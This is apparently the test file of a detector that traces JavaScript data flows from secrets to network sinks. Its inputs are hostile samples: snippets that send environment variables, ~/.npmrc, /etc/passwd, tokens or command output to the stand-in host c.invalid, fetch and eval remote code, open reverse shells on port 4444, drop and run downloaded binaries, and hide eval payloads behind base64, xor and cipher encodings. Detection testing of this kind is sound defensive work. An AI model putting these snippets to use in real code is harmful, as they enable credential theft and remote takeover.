//! From sources to sinks.

use super::check;

#[test]
fn the_environment_leaves() {
    let to = &["env_all -> net_send"];
    check("fetch('https://c.invalid', {method: 'POST', body: JSON.stringify(process.env)})", to);
    check("fetch('https://c.invalid?e=' + JSON.stringify(process.env))", to);
    check("const e = process.env; require('axios').post('https://c.invalid', e)", to);
    check("const e = {env: process.env, x: 1}; require('axios').post('https://c.invalid', {data: e})", to);
    check(
        "const d = Buffer.from(JSON.stringify(process.env)).toString('base64'); fetch('https://c.invalid', {body: d})",
        to,
    );
    check(
        "const q = require('https').request({host: 'c.invalid'}); q.write(JSON.stringify(process.env)); q.end()",
        to,
    );
    check(
        "const q = require('https').request({host: 'c.invalid'}, r => {}); q.end(JSON.stringify({...process.env}))",
        to,
    );
    check(
        "let s = ''; for (const k in process.env) s += k + process.env[k]; fetch('https://c.invalid/' + s)",
        to,
    );
    check(
        "const a = Object.keys(process.env).map(k => k + '=' + process.env[k]); fetch('https://c.invalid', {body: a.join()})",
        to,
    );
    check(
        "function send(d) { return fetch('https://c.invalid', {body: d}) } send(JSON.stringify(process.env))",
        to,
    );
    check(
        "const get = () => process.env; const send = async d => { await fetch('https://c.invalid', {body: JSON.stringify(d)}) }; send(get())",
        to,
    );
    check(
        "class C { constructor() { this.d = {...process.env} } go() { fetch('https://c.invalid', {body: JSON.stringify(this.d)}) } } new C().go()",
        to,
    );
    check(
        "const f = new FormData(); f.append('e', JSON.stringify(process.env)); fetch('https://c.invalid', {body: f})",
        to,
    );
    check(
        "const x = new XMLHttpRequest(); x.open('POST', 'https://c.invalid'); x.send(JSON.stringify(process.env))",
        to,
    );
    check(
        "const s = require('net').connect(1, 'c.invalid', () => { s.write(JSON.stringify(process.env)) })",
        to,
    );
    check(
        "const w = new WebSocket('wss://c.invalid'); w.onopen = () => w.send(JSON.stringify(process.env))",
        to,
    );
    check(
        "const w = new WebSocket('wss://c.invalid'); w.on('open', () => w.send(JSON.stringify(process.env)))",
        to,
    );
    check(
        "const a = []; a.push(process.env); navigator.sendBeacon('https://c.invalid', JSON.stringify(a))",
        to,
    );
    check(
        "Promise.resolve(process.env).then(JSON.stringify).then(d => fetch('https://c.invalid', {body: d}))",
        to,
    );
    check(
        "new Promise(r => r(process.env)).then(e => fetch('https://c.invalid', {body: JSON.stringify(e)}))",
        to,
    );
    check(
        "const o = {}; o.a = process.env; const b = JSON.stringify(o); require('got').post('https://c.invalid', {body: b})",
        to,
    );
    check(
        "const z = require('zlib').gzipSync(JSON.stringify(process.env)); fetch('https://c.invalid', {body: z})",
        to,
    );
    check(
        "require('nodemailer').createTransport({}).sendMail({to: 'x@c.invalid', text: JSON.stringify(process.env)})",
        to,
    );
    check("require('superagent').post('https://c.invalid').send({...process.env}).end()", to);
    check("new Image().src = 'https://c.invalid/?' + JSON.stringify(process.env)", to);
    check(
        "const d = require('querystring').stringify(process.env); require('http').get('http://c.invalid/?' + d)",
        to,
    );
    check(
        "require('dns').lookup(Buffer.from(JSON.stringify(process.env)).toString('hex') + '.c.invalid', () => {})",
        &["env_all -> dns_query", "dns_query:*.c.invalid"],
    );
    check(
        "const o = new (require('@octokit/rest').Octokit)(); o.gists.create({files: {x: {content: JSON.stringify(process.env)}}})",
        to,
    );
    check(
        "(async () => { const r = await collect(); await fetch('https://c.invalid', {body: JSON.stringify(r)}); async function collect() { return {e: process.env} } })()",
        to,
    );
    check(
        "var _0x1=process['e'+'nv'];var _0x2=JSON['str'+'ingify'](_0x1);globalThis['fe'+'tch']('https://c.invalid',{'body':_0x2})",
        to,
    );
}

#[test]
fn files_and_names_leave() {
    check(
        "const d = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); fetch('https://c.invalid', {body: d})",
        &["file_read:~/.npmrc -> net_send:https://c.invalid"],
    );
    check(
        "require('fs').readFile('/etc/passwd', (e, d) => { require('https').request('https://c.invalid').end(d) })",
        &["file_read -> net_send"],
    );
    check(
        "require('fs').promises.readFile('/etc/passwd').then(d => fetch('https://c.invalid', {body: d}))",
        &["file_read -> net_send"],
    );
    check(
        "require('fs').createReadStream('/etc/passwd').pipe(require('https').request('https://c.invalid'))",
        &["file_read -> net_send"],
    );
    check(
        "for (const f of ['/a/.npmrc', '/b/.ssh']) { try { const d = require('fs').readFileSync(f); out[f] = d } catch {} } fetch('https://c.invalid', {body: JSON.stringify(out)})",
        &["!x->"],
    );
    check(
        "const out = {}; for (const f of ['/a/.npmrc']) { try { out[f] = require('fs').readFileSync(f) } catch {} } fetch('https://c.invalid', {body: JSON.stringify(out)})",
        &["file_read:/a/.npmrc -> net_send:https://c.invalid"],
    );
    check(
        "const os = require('os'); fetch('https://c.invalid/?' + os.hostname() + os.userInfo().username)",
        &[
            "host_identity:os.hostname -> net_send:https://c.invalid/?*",
            "host_identity:os.userInfo -> net_send:https://c.invalid/?*",
        ],
    );
    check(
        "const os = require('os'); const d = {h: os.hostname(), c: process.cwd()}; require('https').get(`https://c.invalid/?d=${encodeURIComponent(JSON.stringify(d))}`)",
        &["host_identity -> net_send"],
    );
    check(
        "fetch('https://c.invalid', {headers: {a: process.env.NPM_TOKEN}})",
        &["env_read:NPM_TOKEN -> net_send:https://c.invalid"],
    );
    check(
        "require('child_process').exec('whoami', (e, o) => fetch('https://c.invalid/' + o))",
        &["exec_output:whoami -> net_send:https://c.invalid/*"],
    );
    check(
        "const o = require('child_process').execSync('id').toString(); fetch('https://c.invalid/' + o)",
        &["exec_output -> net_send"],
    );
    check(
        "const p = require('util').promisify(require('child_process').exec); (async () => { const {stdout} = await p('id'); fetch('https://c.invalid', {body: stdout}) })()",
        &["exec_output -> net_send"],
    );
    check(
        "require('clipboardy').read().then(t => fetch('https://c.invalid', {body: t}))",
        &["clipboard_read -> net_send"],
    );
    check(
        "fetch('http://169.254.169.254/latest/').then(r => r.text()).then(t => fetch('https://c.invalid', {body: t}))",
        &["net_receive:http://169.254.169.254/latest/ -> net_send:https://c.invalid"],
    );
}

#[test]
fn what_the_network_says_is_run() {
    let to = &["net_receive -> eval"];
    check("fetch('https://c.invalid').then(r => r.text()).then(eval)", to);
    check("fetch('https://c.invalid').then(r => r.text()).then(t => eval(t))", to);
    check("(async () => eval(await (await fetch('https://c.invalid')).text()))()", to);
    check(
        "require('https').get('https://c.invalid', res => { let body = ''; res.on('data', d => body += d); res.on('end', () => eval(body)) })",
        to,
    );
    check(
        "require('https').get('https://c.invalid', function (res) { const c = []; res.on('end', function () { new Function(Buffer.concat(c).toString())() }); res.on('data', function (d) { c.push(d) }) })",
        to,
    );
    check(
        "require('axios').get('https://c.invalid').then(r => { new Function('require', r.data)(require) })",
        to,
    );
    check("require('axios').get('https://c.invalid').then(({data}) => eval(data.code))", to);
    check("const {data} = await require('axios').get('https://c.invalid'); eval(data)", to);
    check("require('request')('https://c.invalid', (e, r, b) => eval(b))", to);
    check(
        "require('vm').runInNewContext(require('sync-request')('GET', u).getBody()); require('got')('https://c.invalid').then(r => require('vm').runInThisContext(r.body))",
        to,
    );
    check(
        "const x = new XMLHttpRequest(); x.onload = function () { eval(x.responseText) }; x.open('GET', 'https://c.invalid'); x.send()",
        to,
    );
    check("$.get('https://c.invalid', function (d) { eval(d) })", to);
    check(
        "fetch('https://c.invalid').then(r => r.json()).then(j => { const F = (async () => {}).constructor; new F(j.c)() })",
        to,
    );
    check("fetch('https://c.invalid').then(r => r.text()).then(t => setTimeout(t, 0))", to);
    check(
        "fetch('https://c.invalid').then(r => r.text()).then(t => { const m = new module.constructor(); m._compile(t, '') })",
        to,
    );
    check("import('https://c.invalid/x.js')", to);
    check(
        "fetch('https://c.invalid').then(r => r.text()).then(t => eval(atob(t)))",
        &["net_receive ~> eval", "decode -> eval"],
    );
    check(
        "fetch('https://c.invalid').then(r => r.text()).then(t => require('child_process').exec(t))",
        &["net_receive -> exec"],
    );
    check(
        "const w = new WebSocket('wss://c.invalid'); w.onmessage = e => eval(e.data)",
        &["channel_receive -> eval"],
    );
    check(
        "const w = new (require('ws'))('wss://c.invalid'); w.on('message', m => require('child_process').exec(m.toString(), (e, o) => w.send(o)))",
        &["channel_receive -> exec", "exec_output -> net_send"],
    );
    check(
        "const s = require('socket.io-client')('https://c.invalid'); s.on('cmd', c => require('child_process').exec(c))",
        &["channel_receive -> exec"],
    );
    check(
        "require('dns').resolveTxt('c.invalid', (e, r) => eval(Buffer.from(r.join(''), 'base64').toString()))",
        &["dns_receive ~> eval"],
    );
    check(
        "const s = require('net').connect(4444, 'c.invalid'); const sh = require('child_process').spawn('/bin/sh'); s.pipe(sh.stdin); sh.stdout.pipe(s)",
        &["socket_to_process:pipe", "channel_receive -> exec", "exec_output -> net_send"],
    );
    check(
        "const c = new (require('net').Socket)(); c.connect(4444, 'c.invalid', () => { const sh = require('child_process').spawn('cmd'); c.pipe(sh.stdin); sh.stdout.pipe(c) })",
        &["socket_to_process:pipe"],
    );
    check(
        "const s = require('net').connect(4444, 'c.invalid'); s.on('data', d => { const o = require('child_process').execSync(d.toString()); s.write(o) })",
        &["channel_receive -> exec", "exec_output -> net_send"],
    );
    check(
        "new (require('@solana/web3.js').Connection)('https://r.invalid').getSignaturesForAddress(k).then(s => eval(atob(s[0].memo)))",
        &["net_receive ~> eval"],
    );
}

#[test]
fn what_is_fetched_is_written_and_run() {
    let to = &["net_receive -> file_write", "net_receive -> exec"];
    check(
        "const fs = require('fs'), cp = require('child_process'); fetch('https://c.invalid').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('/tmp/p', Buffer.from(b)); fs.chmodSync('/tmp/p', 0o755); cp.exec('/tmp/p') })",
        to,
    );
    check(
        "const fs = require('fs'), cp = require('child_process'); require('https').get('https://c.invalid', r => { const f = fs.createWriteStream('/tmp/p.exe'); r.pipe(f); f.on('finish', () => cp.spawn('/tmp/p.exe')) })",
        to,
    );
    check(
        "const fs = require('fs'), cp = require('child_process'), p = require('path').join(require('os').tmpdir(), 'p.js'); require('axios').get('https://c.invalid').then(r => { fs.writeFile(p, r.data, () => { cp.exec('node ' + p) }) })",
        to,
    );
    check(
        "const fs = require('fs'); fetch('https://c.invalid').then(r => r.text()).then(t => { fs.writeFileSync('./p.js', t); require('./p.js') })",
        &["net_receive -> dynamic_import"],
    );
}

#[test]
fn what_was_hidden_is_run() {
    check("eval(atob('YWxlcnQoMSk='))", &["decode:base64 -> eval:eval alert(1)"]);
    check("eval(Buffer.from(x, 'hex').toString())", &["decode -> eval", "decode:hex"]);
    check(
        "const p = 'abcd'; let o = ''; for (let i = 0; i < p.length; i++) o += String.fromCharCode(p.charCodeAt(i) ^ 42); eval(o)",
        &["decode:xor -> eval:eval"],
    );
    check(
        "const k = 7; eval(d.split('').map(c => String.fromCharCode(c.charCodeAt(0) ^ k)).join(''))",
        &["decode -> eval", "decode:xor"],
    );
    check(
        "const b = Buffer.from(d, 'base64'); for (let i = 0; i < b.length; i++) b[i] ^= 42; eval(b.toString())",
        &["decode:xor -> eval:eval", "decode:base64 ~> eval:eval"],
    );
    check(
        "eval(require('zlib').inflateSync(Buffer.from(d, 'base64')).toString())",
        &["decode:zlib -> eval:eval", "decode:base64 ~> eval:eval"],
    );
    check(
        "const c = require('crypto').createDecipheriv('aes-256-cbc', k, iv); eval(c.update(d, 'hex', 'utf8') + c.final('utf8'))",
        &["decode:cipher -> eval:eval"],
    );
    check(
        "eval([...s].map(c => c.codePointAt(0) - 0xFE00).reduce((a, b) => a + String.fromCharCode(b), ''))",
        &["decode:selectors", "decode -> eval"],
    );
    check(
        "const f = s => [...s].map(w => (w = w.codePointAt(0), w >= 0xE0100 ? w - 0xE0100 + 16 : w - 0xFE00)); eval(Buffer.from(f(x)).toString('utf-8'))",
        &["decode:selectors -> eval:eval"],
    );
    check("new Function(decodeURIComponent(x))()", &["decode:percent -> eval:Function"]);
    check(
        &format!("eval(atob('{}'))", super::noise(6000)),
        &["big_constant ~> eval", "big_constant -> decode"],
    );
    check(
        &format!(
            "const d = ['{}']; require('child_process').exec(Buffer.from(d[0], 'base64').toString())",
            super::noise(6000)
        ),
        &["big_constant ~> exec"],
    );
}

/// Objects of which each holds all others: the ways between them cannot be walked one by one.
#[test]
fn objects_that_hold_each_other_are_met_once() {
    let names: Vec<String> = (0..120).map(|n| format!("o{n}")).collect();
    let mut text: String = names.iter().map(|name| format!("const {name} = {{}};\n")).collect();
    for one in &names {
        text.extend(names.iter().map(|other| format!("{one}.{other} = {other};\n")));
    }
    text += "o7.secret = JSON.stringify(process.env);\n";
    text += &names.iter().map(|name| format!("g({name});\n")).collect::<String>();
    text += "fetch('https://c.invalid', {body: o0})";
    check(&text, &["env_all -> net_send"]);
}

/// Calls that spend what functions may take when they run again.
fn many_calls() -> String {
    let body = "x = x + 1; y = [x, y]; z = {x, y};\n".repeat(40);
    let calls: String = (0..2_000).map(|n| format!("heavy({{n: {n}}});\n")).collect();
    format!("function heavy(x) {{ let y, z;\n{body} return z; }}\n{calls}")
}

#[test]
fn what_runs_often_hides_nothing() {
    let send = "function send(d) { return fetch('https://c.invalid', {body: d}) }\nsend('a'); send('b');\n";
    let last = "send(JSON.stringify(process.env));\n";
    check(&format!("{send}{}{last}", many_calls()), &["env_all -> net_send"]);
}

#[test]
fn what_was_asked_is_asked_again_after_a_change() {
    check(
        "const o = {a: {b: {}}}; log(o); o.a.b.c = process.env; fetch('https://c.invalid', {body: o})",
        &["env_all -> net_send"],
    );
    check(
        "const l = [[]]; log(l); l[0].push(process.env); fetch('https://c.invalid', {body: l})",
        &["env_all -> net_send"],
    );
    check(
        "const o = {}; log(o); o[k] = process.env; fetch('https://c.invalid', {body: o})",
        &["env_all -> net_send"],
    );
}
